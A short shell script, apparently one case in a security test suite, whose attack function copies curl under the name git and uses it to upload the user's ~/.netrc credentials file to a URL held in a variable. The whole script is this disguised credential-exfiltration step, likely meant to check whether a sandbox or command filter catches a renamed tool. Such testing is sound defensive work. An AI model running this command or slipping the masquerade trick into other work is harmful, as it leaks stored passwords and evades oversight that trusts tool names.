# SPDX-License-Identifier: Apache-2.0
TITLE="a copy of curl named git, reading what git may read"
ROW="P09 E28"
CLASS=netrc SECRET=.netrc
attack() {
	mkdir -p "$HOME/bin"
	cp "$(command -v curl)" "$HOME/bin/git"
	"$HOME/bin/git" -s -m 5 --data-binary @"$HOME/.netrc" "$URL/"
}
